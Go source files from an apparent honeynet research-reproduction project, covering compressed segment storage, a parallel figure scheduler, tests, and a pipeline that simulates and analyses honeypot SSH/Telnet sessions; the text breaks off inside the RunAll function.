	s    *Store // counters; may be nil in tests
	f    *os.File
	meta *segmentMeta
	bi   int // next block index

	comp    []byte // scratch: compressed block
	payload []byte // scratch: current uncompressed payload
	poff    int    // parse offset into payload
	left    int    // records left in current payload
	fr      io.ReadCloser
}

// openSegment opens seg for reading under the store's directory.
func (s *Store) openSegment(meta *segmentMeta) (*blockReader, error) {
	f, err := os.Open(filepath.Join(s.dir, meta.File))
	if err != nil {
		return nil, err
	}
	var magic [8]byte
	if _, err := io.ReadFull(f, magic[:]); err != nil || magic != segMagic {
		f.Close()
		return nil, fmt.Errorf("store: %s: bad segment magic", meta.File)
	}
	return &blockReader{s: s, f: f, meta: meta}, nil
}

// next returns the next (seq, record JSON) entry, loading blocks as
// needed. It returns io.EOF after the last record. The returned line
// aliases the reader's scratch buffer: it is valid until the next call.
func (br *blockReader) next() (seq uint64, line []byte, err error) {
	for br.left == 0 {
		if br.bi >= len(br.meta.Blocks) {
			return 0, nil, io.EOF
		}
		if err := br.loadBlock(br.meta.Blocks[br.bi]); err != nil {
			return 0, nil, err
		}
		br.bi++
	}
	seq, n := binary.Uvarint(br.payload[br.poff:])
	if n <= 0 {
		return 0, nil, fmt.Errorf("store: %s: corrupt entry header", br.meta.File)
	}
	br.poff += n
	ln, n := binary.Uvarint(br.payload[br.poff:])
	if n <= 0 || br.poff+n+int(ln) > len(br.payload) {
		return 0, nil, fmt.Errorf("store: %s: corrupt entry length", br.meta.File)
	}
	br.poff += n
	line = br.payload[br.poff : br.poff+int(ln)]
	br.poff += int(ln)
	br.left--
	return seq, line, nil
}

// loadBlock reads, verifies, and decompresses one block into the
// reusable payload buffer.
func (br *blockReader) loadBlock(b blockMeta) error {
	if cap(br.comp) < b.CLen {
		br.comp = make([]byte, b.CLen)
	}
	comp := br.comp[:b.CLen]
	if _, err := br.f.ReadAt(comp, b.Off); err != nil {
		return fmt.Errorf("store: %s: read block: %w", br.meta.File, err)
	}
	if crc := crc32.ChecksumIEEE(comp); crc != b.CRC {
		return fmt.Errorf("store: %s: block at %d: CRC mismatch", br.meta.File, b.Off)
	}
	if br.fr == nil {
		br.fr = flate.NewReader(bytes.NewReader(comp))
	} else {
		if err := br.fr.(flate.Resetter).Reset(bytes.NewReader(comp), nil); err != nil {
			return err
		}
	}
	if cap(br.payload) < b.ULen {
		br.payload = make([]byte, b.ULen)
	}
	br.payload = br.payload[:b.ULen]
	if _, err := io.ReadFull(br.fr, br.payload); err != nil {
		return fmt.Errorf("store: %s: decompress block: %w", br.meta.File, err)
	}
	br.poff = 0
	br.left = b.Count
	if br.s != nil {
		br.s.blocksRead.Add(1)
	}
	return nil
}

// close releases the segment file.
func (br *blockReader) close() error { return br.f.Close() }

// decodeRecord parses one stored record line.
func decodeRecord(line []byte) (*session.Record, error) {
	r := &session.Record{}
	if err := json.Unmarshal(line, r); err != nil {
		return nil, fmt.Errorf("store: decoding record: %w", err)
	}
	return r, nil
}

// overlaps reports whether the segment's time bounds intersect [from,
// to); zero bounds are open.
func (sm *segmentMeta) overlaps(from, to time.Time) bool {
	if !to.IsZero() && !sm.MinTime.Before(to) {
		return false
	}
	if !from.IsZero() && sm.MaxTime.Before(from) {
		return false
	}
	return true
}
