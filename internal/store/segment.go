package store

import (
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"
	"os"
	"path/filepath"
	"sync"
	"time"

	"honeynet/internal/parallel"
	"honeynet/internal/session"
)

// Segment file layout: an 8-byte magic followed by back-to-back
// compressed blocks. Each block's uncompressed payload is a run of
// entries — uvarint(seq), uvarint(len), record JSON — and the block
// index (offsets, lengths, counts, CRCs) lives in the manifest, so a
// reader never parses a segment blind. The magic's version digit names
// the block codec: '1' is DEFLATE (the original format), '2' is the
// in-tree LZ codec; the manifest's per-segment codec field must agree.
// Segments are immutable once the manifest references them.

var (
	segMagicV1 = [8]byte{'H', 'N', 'S', 'T', 'O', 'R', 'E', '1'}
	segMagicV2 = [8]byte{'H', 'N', 'S', 'T', 'O', 'R', 'E', '2'}
	segMagicV3 = [8]byte{'H', 'N', 'S', 'T', 'O', 'R', 'E', '3'}
)

// segReader streams one segment's records in sequence order, whatever
// the segment's layout: blockReader for the row formats (v1/v2),
// colReader for columnar v3. Lines alias reader scratch — valid until
// the next call.
type segReader interface {
	next() (seq uint64, line []byte, err error)
	close() error
	setStats(*PlanStats)
}

// segFileName names segment n.
func segFileName(n int) string { return fmt.Sprintf("seg-%06d.hns", n) }

// blockSpan marks one block's slice of the framed payload.
type blockSpan struct {
	start, end int // byte range in the frame buffer
	count      int // records in the block
}

// writeSegment seals one month's records — those of recs selected by
// idxs, with global append sequence baseSeq+index — into a new segment
// file and returns its metadata. Records are framed once into a
// contiguous buffer — the WAL lines are reused verbatim, no re-marshal
// — then the blocks are compressed in parallel across SealWorkers. The
// file is fsynced before return; the caller commits it via the
// manifest.
func (s *Store) writeSegment(file string, recs []*session.Record, lines [][]byte, idxs []int32, baseSeq uint64) (*segmentMeta, error) {
	if s.opts.Format == FormatV3 {
		return s.writeSegmentColumnar(file, recs, lines, idxs, baseSeq)
	}
	codecName := s.opts.codec()
	manifestCodec := codecName
	if manifestCodec == CodecFlate {
		manifestCodec = "" // v1 manifests predate the field; keep them byte-identical
	}
	meta := &segmentMeta{
		File:   file,
		Month:  recs[idxs[0]].Month().Format(monthLayout),
		MinSeq: baseSeq + uint64(idxs[0]),
		MaxSeq: baseSeq + uint64(idxs[len(idxs)-1]),
		Codec:  manifestCodec,
		Bloom:  newBloom(len(idxs)),
	}

	// Frame every record into one contiguous payload, recording block
	// boundaries, and fold the per-segment aggregates in the same pass.
	// The frame buffer is seal scratch: reused across segments and
	// seals (seals are serialized, see Store.sealFrames).
	blockBytes := s.opts.blockBytes()
	var total int
	for _, i := range idxs {
		total += len(lines[i]) + 2*binary.MaxVarintLen64
	}
	if cap(s.sealFrames) < total {
		s.sealFrames = make([]byte, 0, total)
	}
	frames := s.sealFrames[:0]
	defer func() { s.sealFrames = frames[:0] }()
	var (
		spans  []blockSpan
		start  int
		count  int
		varint [binary.MaxVarintLen64]byte
	)
	for _, i := range idxs {
		r, line := recs[i], lines[i]
		n := binary.PutUvarint(varint[:], baseSeq+uint64(i))
		frames = append(frames, varint[:n]...)
		n = binary.PutUvarint(varint[:], uint64(len(line)))
		frames = append(frames, varint[:n]...)
		frames = append(frames, line...)
		count++

		meta.Records++
		meta.Kinds[r.Kind()]++
		switch r.Protocol {
		case session.ProtoSSH:
			meta.SSH++
		case session.ProtoTelnet:
			meta.Telnet++
		}
		meta.Bloom.Add(r.ClientIP)
		if meta.MinTime.IsZero() || r.Start.Before(meta.MinTime) {
			meta.MinTime = r.Start
		}
		if r.Start.After(meta.MaxTime) {
			meta.MaxTime = r.Start
		}

		if len(frames)-start >= blockBytes {
			spans = append(spans, blockSpan{start, len(frames), count})
			start, count = len(frames), 0
		}
	}
	if count > 0 {
		spans = append(spans, blockSpan{start, len(frames), count})
	}

	// Compress the blocks in parallel: one codec instance per worker
	// and one output buffer per block index, all cached across seals so
	// steady-state sealing allocates nothing block-sized.
	workers := s.sealWorkers(len(spans))
	for len(s.sealCodecs) < workers {
		c, err := newBlockCodec(codecName)
		if err != nil {
			return nil, err
		}
		s.sealCodecs = append(s.sealCodecs, c)
	}
	for len(s.sealComps) < len(spans) {
		s.sealComps = append(s.sealComps, nil)
	}
	comps := s.sealComps[:len(spans)]
	crcs := make([]uint32, len(spans))
	errs := make([]error, len(spans))
	parallel.ForEach(len(spans), workers, 1, func(worker, lo, hi int) {
		for i := lo; i < hi; i++ {
			sp := spans[i]
			comp, err := s.sealCodecs[worker].compress(comps[i][:0], frames[sp.start:sp.end])
			if err != nil {
				errs[i] = err
				return
			}
			comps[i] = comp
			crcs[i] = crc32.ChecksumIEEE(comp)
		}
	})
	for _, err := range errs {
		if err != nil {
			return nil, fmt.Errorf("store: compress block: %w", err)
		}
	}

	f, err := os.OpenFile(filepath.Join(s.dir, file), os.O_CREATE|os.O_TRUNC|os.O_WRONLY, 0o644)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	magic := segmentMagic(codecName)
	if _, err := f.Write(magic[:]); err != nil {
		return nil, err
	}
	off := int64(len(magic))
	for i, sp := range spans {
		if _, err := f.Write(comps[i]); err != nil {
			return nil, err
		}
		meta.Blocks = append(meta.Blocks, blockMeta{
			Off:   off,
			CLen:  len(comps[i]),
			ULen:  sp.end - sp.start,
			Count: sp.count,
			CRC:   crcs[i],
		})
		off += int64(len(comps[i]))
		meta.RawBytes += int64(sp.end - sp.start)
		meta.CompBytes += int64(len(comps[i]))
	}
	s.sealBlocks.Add(int64(len(spans)))
	if err := f.Sync(); err != nil {
		return nil, err
	}
	return meta, nil
}

// blockBufPool recycles block scratch buffers (compressed and payload)
// across readers, so a scan over many segments allocates a bounded
// working set instead of two buffers per segment.
var blockBufPool = sync.Pool{New: func() any { return new([]byte) }}

// blockReader streams one segment's records block by block: one
// compressed block and one uncompressed payload are resident at a time,
// so peak memory is bounded by the block size, not the segment (let
// alone the dataset). Buffers are pooled and returned on close.
type blockReader struct {
	s     *Store     // counters; may be nil in tests
	stats *PlanStats // per-query plan stats; may be nil
	f     *os.File
	meta  *segmentMeta
	bi    int // next block index

	codec   blockCodec
	comp    *[]byte // pooled scratch: compressed block
	payload *[]byte // pooled scratch: current uncompressed payload
	buf     []byte  // current payload bytes (aliases *payload)
	poff    int     // parse offset into buf
	left    int     // records left in current payload
}

// openSegment opens seg for reading under the store's directory,
// dispatching on the segment's layout. The block codec comes from the
// segment's manifest entry; the file magic must agree with it.
func (s *Store) openSegment(meta *segmentMeta) (segReader, error) {
	if meta.Codec == FormatV3 {
		return s.openColReader(meta)
	}
	return s.openRowSegment(meta)
}

// openRowSegment opens a v1/v2 row-layout segment.
func (s *Store) openRowSegment(meta *segmentMeta) (*blockReader, error) {
	f, err := os.Open(filepath.Join(s.dir, meta.File))
	if err != nil {
		return nil, err
	}
	var magic [8]byte
	if _, err := io.ReadFull(f, magic[:]); err != nil || magic != segmentMagic(meta.Codec) {
		f.Close()
		return nil, fmt.Errorf("store: %s: bad segment magic", meta.File)
	}
	codec, err := newBlockCodec(meta.Codec)
	if err != nil {
		f.Close()
		return nil, err
	}
	return &blockReader{s: s, f: f, meta: meta, codec: codec}, nil
}

// setStats attaches per-query plan stats.
func (br *blockReader) setStats(ps *PlanStats) { br.stats = ps }

// next returns the next (seq, record JSON) entry, loading blocks as
// needed. It returns io.EOF after the last record. The returned line
// aliases the reader's scratch buffer: it is valid until the next call.
func (br *blockReader) next() (seq uint64, line []byte, err error) {
	for br.left == 0 {
		if br.bi >= len(br.meta.Blocks) {
			return 0, nil, io.EOF
		}
		if err := br.loadBlock(br.meta.Blocks[br.bi]); err != nil {
			return 0, nil, err
		}
		br.bi++
	}
	seq, n := binary.Uvarint(br.buf[br.poff:])
	if n <= 0 {
		return 0, nil, fmt.Errorf("store: %s: corrupt entry header", br.meta.File)
	}
	br.poff += n
	ln, n := binary.Uvarint(br.buf[br.poff:])
	if n <= 0 || br.poff+n+int(ln) > len(br.buf) {
		return 0, nil, fmt.Errorf("store: %s: corrupt entry length", br.meta.File)
	}
	br.poff += n
	line = br.buf[br.poff : br.poff+int(ln)]
	br.poff += int(ln)
	br.left--
	return seq, line, nil
}

// grow returns *bp resized to n bytes, reallocating if needed.
func grow(bp *[]byte, n int) []byte {
	if cap(*bp) < n {
		*bp = make([]byte, n)
	}
	return (*bp)[:n]
}

// loadBlock reads, verifies, and decompresses one block into the
// pooled payload buffer.
func (br *blockReader) loadBlock(b blockMeta) error {
	if br.comp == nil {
		br.comp = blockBufPool.Get().(*[]byte)
		br.payload = blockBufPool.Get().(*[]byte)
		poolGets.Add(2)
	}
	comp := grow(br.comp, b.CLen)
	if _, err := br.f.ReadAt(comp, b.Off); err != nil {
		return fmt.Errorf("store: %s: read block: %w", br.meta.File, err)
	}
	if crc := crc32.ChecksumIEEE(comp); crc != b.CRC {
		return fmt.Errorf("store: %s: block at %d: CRC mismatch", br.meta.File, b.Off)
	}
	br.buf = grow(br.payload, b.ULen)
	if err := br.codec.decompress(br.buf, comp); err != nil {
		return fmt.Errorf("store: %s: decompress block: %w", br.meta.File, err)
	}
	br.poff = 0
	br.left = b.Count
	if br.s != nil {
		br.s.blocksRead.Add(1)
	}
	if br.stats != nil {
		br.stats.BlocksRead++
	}
	return nil
}

// close releases the segment file and returns scratch to the pool.
func (br *blockReader) close() error {
	if br.comp != nil {
		blockBufPool.Put(br.comp)
		blockBufPool.Put(br.payload)
		poolPuts.Add(2)
		br.comp, br.payload, br.buf = nil, nil, nil
	}
	return br.f.Close()
}

// decodeRecord parses one stored record line.
func decodeRecord(line []byte) (*session.Record, error) {
	r := &session.Record{}
	if err := session.DecodeJSON(line, r); err != nil {
		return nil, fmt.Errorf("store: decoding record: %w", err)
	}
	return r, nil
}

// overlaps reports whether the segment's time bounds intersect [from,
// to); zero bounds are open.
func (sm *segmentMeta) overlaps(from, to time.Time) bool {
	if !to.IsZero() && !sm.MinTime.Before(to) {
		return false
	}
	if !from.IsZero() && sm.MaxTime.Before(from) {
		return false
	}
	return true
}
