// Dependency-aware figure scheduler for RunAll. Every analyzer in the
// paper reproduction reads the immutable dataset and its own scratch
// state, so independent figures can run concurrently; only the two
// cluster figures depend on an earlier stage (the section 6 K-medoids
// pipeline). Each task renders into a private buffer and the buffers
// are flushed in declaration order, so `-fig all` output is
// byte-identical to the old serial loop for any worker count.
package core

import (
	"bytes"
	"fmt"
	"sync"

	"honeynet/internal/analysis"
	"honeynet/internal/botnet"
	"honeynet/internal/report"
)

// runState carries the cross-task values: the analysis world plus the
// clustering result the cluster stage hands to its dependent figures.
// cres is written by the cluster task and read only by tasks that
// declare it as a dependency (the scheduler's completion signaling
// orders the accesses).
type runState struct {
	w    *analysis.World
	ccfg analysis.ClusterConfig
	cres *analysis.ClusterResult
}

// figTask is one scheduling unit of RunAll.
type figTask struct {
	name string
	// deps lists prerequisite task indices in the runAllTasks slice.
	deps []int
	run  func(s *runState, buf *bytes.Buffer) error
}

// emitInto renders one table the way the serial loop did.
func emitInto(buf *bytes.Buffer, t *report.Table) {
	fmt.Fprintln(buf, t.String())
}

// table wraps the common infallible emit-one-or-more-tables task body.
func tables(f func(s *runState, buf *bytes.Buffer)) func(*runState, *bytes.Buffer) error {
	return func(s *runState, buf *bytes.Buffer) error {
		f(s, buf)
		return nil
	}
}

// runAllTasks returns RunAll's task graph. Slice order IS output order:
// the flusher concatenates buffers by index, reproducing the paper's
// figure sequence exactly.
func runAllTasks() []figTask {
	const clusterStage = 6 // index of the K-medoids stage below
	return []figTask{
		{name: "stats", run: tables(func(s *runState, b *bytes.Buffer) {
			emitInto(b, analysis.Stats(s.w).Table())
		})},
		{name: "fig1", run: tables(func(s *runState, b *bytes.Buffer) {
			emitInto(b, analysis.Fig1Table(analysis.Fig1(s.w)))
		})},
		{name: "fig2", run: tables(func(s *runState, b *bytes.Buffer) {
			emitInto(b, analysis.SharesTable("Figure 2: non-state-changing sessions, top bots/month", analysis.Fig2(s.w), 8))
		})},
		{name: "fig3a", run: tables(func(s *runState, b *bytes.Buffer) {
			emitInto(b, analysis.SharesTable("Figure 3a: file add/modify/delete without exec", analysis.Fig3a(s.w), 8))
		})},
		{name: "fig3b", run: tables(func(s *runState, b *bytes.Buffer) {
			emitInto(b, analysis.SharesTable("Figure 3b: file-execution sessions", analysis.Fig3b(s.w), 8))
		})},
		{name: "fig4", run: tables(func(s *runState, b *bytes.Buffer) {
			f4 := analysis.Fig4(s.w)
			emitInto(b, analysis.SharesTable("Figure 4a: exec sessions, file exists", f4.Exists, 8))
			emitInto(b, analysis.SharesTable("Figure 4b: exec sessions, file missing", f4.Missing, 8))
		})},
		{name: "cluster", run: func(s *runState, _ *bytes.Buffer) error {
			cres, err := analysis.RunClustering(s.w, s.ccfg)
			if err != nil {
				return fmt.Errorf("core: clustering: %w", err)
			}
			s.cres = cres
			return nil
		}},
		{name: "fig5", deps: []int{clusterStage}, run: tables(func(s *runState, b *bytes.Buffer) {
			emitInto(b, s.cres.Fig5Table(12))
		})},
		{name: "fig6", deps: []int{clusterStage}, run: tables(func(s *runState, b *bytes.Buffer) {
			emitInto(b, analysis.Fig6Table(s.cres.Fig6(5)))
		})},
		{name: "storage", run: tables(func(s *runState, b *bytes.Buffer) {
			emitInto(b, analysis.Storage(s.w).Table())
		})},
		{name: "fig7", run: tables(func(s *runState, b *bytes.Buffer) {
			emitInto(b, analysis.Fig7(s.w).Table())
		})},
		{name: "fig8", run: tables(func(s *runState, b *bytes.Buffer) {
			emitInto(b, analysis.Fig8Table(analysis.Fig8(s.w)))
		})},
		{name: "fig9", run: tables(func(s *runState, b *bytes.Buffer) {
			for _, rc := range []struct {
				name string
				days int
			}{{"1-week", 7}, {"4-week", 28}, {"1-year", 365}, {"all", 0}} {
				emitInto(b, analysis.Fig9Table("Figure 9 ("+rc.name+" recall): storage IP activity days", analysis.Fig9(s.w, rc.days)))
			}
		})},
		{name: "fig10", run: tables(func(s *runState, b *bytes.Buffer) {
			emitInto(b, analysis.Fig10(s.w, 5).Table())
		})},
		{name: "fig11", run: tables(func(s *runState, b *bytes.Buffer) {
			emitInto(b, analysis.Fig11(s.w).Table())
		})},
		{name: "fig12", run: tables(func(s *runState, b *bytes.Buffer) {
			emitInto(b, analysis.Fig12Table(analysis.Fig12(s.w)))
		})},
		{name: "mdrfckr", run: tables(func(s *runState, b *bytes.Buffer) {
			cs := analysis.Mdrfckr(s.w, botnet.MdrfckrKeyHash())
			emitInto(b, cs.Fig13Table())
			emitInto(b, cs.Table())
		})},
		{name: "events", run: tables(func(s *runState, b *bytes.Buffer) {
			emitInto(b, analysis.EventsTable(analysis.EventCorrelation(s.w)))
		})},
		{name: "fig14", run: tables(func(s *runState, b *bytes.Buffer) {
			emitInto(b, analysis.Fig14(s.w, 10).Table())
		})},
		{name: "fig16", run: tables(func(s *runState, b *bytes.Buffer) {
			emitInto(b, analysis.Fig16Table(analysis.Fig16(s.w)))
		})},
		{name: "fig17", run: tables(func(s *runState, b *bytes.Buffer) {
			emitInto(b, analysis.Fig17Table(analysis.Fig17(s.w)))
		})},
		{name: "table1", run: tables(func(s *runState, b *bytes.Buffer) {
			emitInto(b, analysis.Table1(s.w).Table())
		})},
		{name: "appc", run: tables(func(s *runState, b *bytes.Buffer) {
			emitInto(b, analysis.CurlProxy(s.w).Table())
		})},
	}
}

// scheduleTasks runs the task graph on up to `workers` goroutines.
// A task becomes runnable when all its dependencies completed; no
// worker ever blocks on an incomplete dependency, so the pool is
// deadlock-free at any size (including 1, which degenerates to the old
// serial order). When a dependency fails, its dependents are skipped
// and inherit the error. Returns per-task buffers and errors indexed
// like tasks.
func scheduleTasks(tasks []figTask, s *runState, workers int) ([]bytes.Buffer, []error) {
	n := len(tasks)
	bufs := make([]bytes.Buffer, n)
	errs := make([]error, n)
	indeg := make([]int, n)
	dependents := make([][]int, n)
	for i, t := range tasks {
		indeg[i] = len(t.deps)
		for _, d := range t.deps {
			dependents[d] = append(dependents[d], i)
		}
	}
	// Buffered to n: every enqueue below is non-blocking, so completing
	// a task never stalls behind a full channel while holding the lock.
	ready := make(chan int, n)
	for i, d := range indeg {
		if d == 0 {
			ready <- i
		}
	}
	var mu sync.Mutex
	pending := n
	if workers > n {
		workers = n
	}
	if workers < 1 {
		workers = 1
	}
	var wg sync.WaitGroup
	for wk := 0; wk < workers; wk++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range ready {
				// errs[i] was pre-set (under mu, before this task was
				// enqueued) iff a dependency failed; skip its body then.
				if errs[i] == nil {
					sp := s.w.Tracer.Span("fig." + tasks[i].name)
					errs[i] = tasks[i].run(s, &bufs[i])
					sp.End()
				}
				mu.Lock()
				pending--
				for _, j := range dependents[i] {
					if errs[i] != nil && errs[j] == nil {
						errs[j] = errs[i]
					}
					indeg[j]--
					if indeg[j] == 0 {
						ready <- j
					}
				}
				if pending == 0 {
					close(ready)
				}
				mu.Unlock()
			}
		}()
	}
	wg.Wait()
	return bufs, errs
}
