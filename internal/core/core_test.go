package core

import (
	"bytes"
	"strings"
	"testing"

	"honeynet/internal/analysis"
	"honeynet/internal/botnet"
	"honeynet/internal/session"
	"honeynet/internal/simulate"
)

func TestSimulateAndRunAll(t *testing.T) {
	p, err := Simulate(simulate.Config{
		Scale: 20000,
		Seed:  5,
	})
	if err != nil {
		t.Fatal(err)
	}
	if p.Scale != 20000 {
		t.Errorf("scale = %v", p.Scale)
	}
	var buf bytes.Buffer
	if err := p.RunAll(&buf, analysis.ClusterConfig{K: 10, SampleSize: 150, Seed: 5}); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	for _, want := range []string{
		"Dataset statistics (section 3.3)",
		"Figure 1:", "Figure 2:", "Figure 3a:", "Figure 3b:",
		"Figure 4a:", "Figure 4b:", "Figure 5:", "Figure 6:",
		"Section 7:", "Figure 7:", "Figure 8:", "Figure 9 (1-week recall)",
		"Figure 9 (all recall)", "Figure 10:", "Figure 11:", "Figure 12:",
		"Figure 13:", "Section 9:", "Section 10:", "Figure 14:", "Figure 16:", "Figure 17:",
		"Table 1:", "Appendix C:",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("RunAll output missing %q", want)
		}
	}
}

func TestFeedsPopulated(t *testing.T) {
	p, err := Simulate(simulate.Config{Scale: 10000, Seed: 6})
	if err != nil {
		t.Fatal(err)
	}
	// The Shadowserver-style key prevalence is installed.
	if n := p.World.AbuseDB.CompromisedHosts(botnet.MdrfckrKeyHash()); n != 13368 {
		t.Errorf("compromised hosts = %d, want 13368", n)
	}
	key, n := p.World.AbuseDB.MostPrevalentKey()
	if key != botnet.MdrfckrKeyHash() || n != 13368 {
		t.Errorf("most prevalent = %q (%d)", key, n)
	}
	// Some campaign IPs are on the Killnet list (scaled 988/270k).
	cs := analysis.Mdrfckr(p.World, botnet.MdrfckrKeyHash())
	if cs.CompromisedHosts != 13368 {
		t.Errorf("case study key prevalence = %d", cs.CompromisedHosts)
	}
	if cs.UniqueIPs > 0 && cs.KillnetOverlap == 0 {
		t.Error("no Killnet overlap despite campaign IPs")
	}
}

func TestFromRecords(t *testing.T) {
	recs := []*session.Record{
		{ID: 1, ClientIP: "10.0.0.1", Protocol: session.ProtoSSH,
			Logins:   []session.LoginAttempt{{Username: "root", Password: "x", Success: true}},
			Commands: []session.Command{{Raw: "uname -a", Known: true}}},
	}
	p := FromRecords(recs, nil)
	if p.World.Store.Len() != 1 {
		t.Fatalf("store len = %d", p.World.Store.Len())
	}
	if p.World.Classifier == nil || p.World.AbuseDB == nil {
		t.Error("defaults not installed")
	}
	t1 := analysis.Table1(p.World)
	if t1.PerCat["uname_a"] != 1 {
		t.Errorf("classification over loaded records: %+v", t1.PerCat)
	}
}

func TestContainsMdrfckr(t *testing.T) {
	cases := map[string]bool{
		"":                    false,
		"mdrfckr":             true,
		"xxmdrfckrxx":         true,
		"mdrfck":              false,
		"echo ssh-rsa mdrfck": false,
	}
	for in, want := range cases {
		if got := containsMdrfckr(in); got != want {
			t.Errorf("containsMdrfckr(%q) = %v", in, got)
		}
	}
}

// TestRunAllDeterministic: the same seed must reproduce byte-identical
// output — the reproducibility contract of the whole harness.
func TestRunAllDeterministic(t *testing.T) {
	render := func() string {
		p, err := Simulate(simulate.Config{Scale: 20000, Seed: 77})
		if err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		if err := p.RunAll(&buf, analysis.ClusterConfig{K: 8, SampleSize: 100, Seed: 77}); err != nil {
			t.Fatal(err)
		}
		return buf.String()
	}
	a := render()
	b := render()
	if a != b {
		t.Error("same seed produced different RunAll output")
	}
	if len(a) < 10000 {
		t.Errorf("output suspiciously small: %d bytes", len(a))
	}
}
