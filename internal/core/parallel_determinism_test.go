package core

import (
	"bytes"
	"runtime"
	"testing"

	"honeynet/internal/analysis"
	"honeynet/internal/simulate"
)

// TestRunAllWorkerAndProcsInvariance is the determinism contract of the
// parallel engine: the full simulate-and-analyze pipeline must render
// byte-identical output for every worker count and GOMAXPROCS setting.
func TestRunAllWorkerAndProcsInvariance(t *testing.T) {
	render := func(workers int) string {
		t.Helper()
		p, err := Simulate(simulate.Config{Scale: 20000, Seed: 77, Workers: workers})
		if err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		ccfg := analysis.ClusterConfig{K: 8, SampleSize: 100, Seed: 77, Workers: workers}
		if err := p.RunAll(&buf, ccfg); err != nil {
			t.Fatal(err)
		}
		return buf.String()
	}
	ref := render(1)
	if len(ref) < 10000 {
		t.Fatalf("output suspiciously small: %d bytes", len(ref))
	}
	for _, procs := range []int{1, 4} {
		prev := runtime.GOMAXPROCS(procs)
		for _, workers := range []int{1, 2, 8} {
			if got := render(workers); got != ref {
				runtime.GOMAXPROCS(prev)
				t.Fatalf("GOMAXPROCS=%d workers=%d: output differs from serial reference (%d vs %d bytes)",
					procs, workers, len(got), len(ref))
			}
		}
		runtime.GOMAXPROCS(prev)
	}
}
