// Package core is the library facade: it wires the simulator, the
// classifier, the clustering pipeline, and every per-figure analyzer
// into one reproduction pipeline, and post-populates the external threat
// feeds (Killnet list, Shadowserver key report) the section 9 case study
// joins against.
package core

import (
	"io"
	"math/rand"
	"sort"
	"strings"

	"honeynet/internal/abusedb"
	"honeynet/internal/analysis"
	"honeynet/internal/asdb"
	"honeynet/internal/botnet"
	"honeynet/internal/classify"
	"honeynet/internal/collector"
	"honeynet/internal/parallel"
	"honeynet/internal/session"
	"honeynet/internal/simulate"
)

// Pipeline bundles a dataset with every analyzer input.
type Pipeline struct {
	World *analysis.World
	// Scale records the simulation scale for paper-vs-measured notes.
	Scale float64
	// MissingJoins lists the join databases FromRecords substituted with
	// empty ones because the caller had none. Figures that join on them
	// (7, 8, 9, 17, and the mdrfckr case study) render empty.
	MissingJoins []string
}

// Simulate generates the synthetic 33-month dataset and prepares the
// analysis world, including the external IP feeds.
func Simulate(cfg simulate.Config) (*Pipeline, error) {
	res, err := simulate.Run(cfg)
	if err != nil {
		return nil, err
	}
	w := &analysis.World{
		Store:      res.Store,
		Registry:   res.Registry,
		AbuseDB:    res.AbuseDB,
		Classifier: classify.New(),
		Workers:    cfg.Workers,
		Tracer:     cfg.Tracer,
	}
	populateFeeds(w, cfg.Seed)
	scale := cfg.Scale
	if scale <= 0 {
		scale = 1000
	}
	return &Pipeline{World: w, Scale: scale}, nil
}

// FromRecords builds a pipeline over an existing record set (e.g. loaded
// from JSONL or captured by live honeypots). Registry- and abuse-joined
// figures need the corresponding databases; passing nil substitutes
// fresh empty ones and records the substitution in Pipeline.MissingJoins
// so callers can warn instead of silently printing empty joins.
func FromRecords(recs []*session.Record, w *analysis.World) *Pipeline {
	store := collector.NewStore()
	for _, r := range recs {
		store.Add(r)
	}
	return fromStore(store, w)
}

// RecordSource is the streaming iterator FromRecordCursor consumes:
// the Next/Record/Err shape of store.StreamCursor, store.FleetStream,
// and every store cursor.
type RecordSource interface {
	Next() bool
	Record() *session.Record
	Err() error
}

// FromRecordCursor builds a pipeline by draining a streaming record
// source — one record at a time, no intermediate slice — so loading a
// disk store costs the collector's working set instead of twice the
// dataset. The source must yield records in the same order FromRecords
// would receive them for byte-identical figures.
func FromRecordCursor(src RecordSource, w *analysis.World) (*Pipeline, error) {
	store := collector.NewStore()
	for src.Next() {
		store.Add(src.Record())
	}
	if err := src.Err(); err != nil {
		return nil, err
	}
	return fromStore(store, w), nil
}

func fromStore(store *collector.Store, w *analysis.World) *Pipeline {
	if w == nil {
		w = &analysis.World{}
	}
	w.Store = store
	if w.Classifier == nil {
		w.Classifier = classify.New()
	}
	p := &Pipeline{World: w, Scale: 1}
	if w.AbuseDB == nil {
		w.AbuseDB = abusedb.New()
		p.MissingJoins = append(p.MissingJoins, "abusedb")
	}
	if w.Registry == nil {
		w.Registry = asdb.NewRegistry(1, 2000)
		p.MissingJoins = append(p.MissingJoins, "asdb")
	}
	return p
}

// populateFeeds installs the external threat-intelligence joins of
// section 9: 988 of the campaign's IPs on the Killnet proxy list (the
// published overlap) and the Shadowserver special-report prevalence of
// the installed key (>13k hosts — a global number, not scaled by the
// honeynet's vantage).
func populateFeeds(w *analysis.World, seed int64) {
	ips := map[string]bool{}
	for _, r := range w.Store.All() {
		if r.Kind() != session.CommandExec {
			continue
		}
		for _, c := range r.Commands {
			if len(c.Raw) > 0 && containsMdrfckr(c.Raw) {
				ips[r.ClientIP] = true
				break
			}
		}
	}
	list := make([]string, 0, len(ips))
	for ip := range ips {
		list = append(list, ip)
	}
	// Map iteration order is random: sort before sampling so the same
	// seed always selects the same Killnet subset.
	sort.Strings(list)
	// Deterministic subset: the same 988/270k fraction of observed
	// campaign IPs the paper found on the Killnet list.
	rng := rand.New(rand.NewSource(seed + 99))
	want := int(float64(len(list)) * 988.0 / 270000.0)
	if want < 1 && len(list) > 0 {
		want = 1
	}
	perm := rng.Perm(len(list))
	for i := 0; i < want && i < len(list); i++ {
		w.AbuseDB.AddKillnetIP(list[perm[i]])
	}
	w.AbuseDB.RecordCompromisedKey(botnet.MdrfckrKeyHash(), 13368)
}

func containsMdrfckr(s string) bool {
	return strings.Contains(s, "mdrfckr")
}

// RunAll executes every table/figure analyzer and writes the rendered
// tables to out. ClusterConfig tunes the section 6 pipeline.
//
// Figures run on a dependency-aware worker pool (see schedule.go): all
// analyzers are read-only over the dataset, so independent figures fill
// their buffers concurrently while the two cluster figures wait for the
// K-medoids stage. Buffers flush in the paper's figure order, so the
// output is byte-identical to a serial run for any worker count. On a
// failed stage the figures before it (in output order) are still
// written, exactly as the serial loop behaved.
func (p *Pipeline) RunAll(out io.Writer, ccfg analysis.ClusterConfig) error {
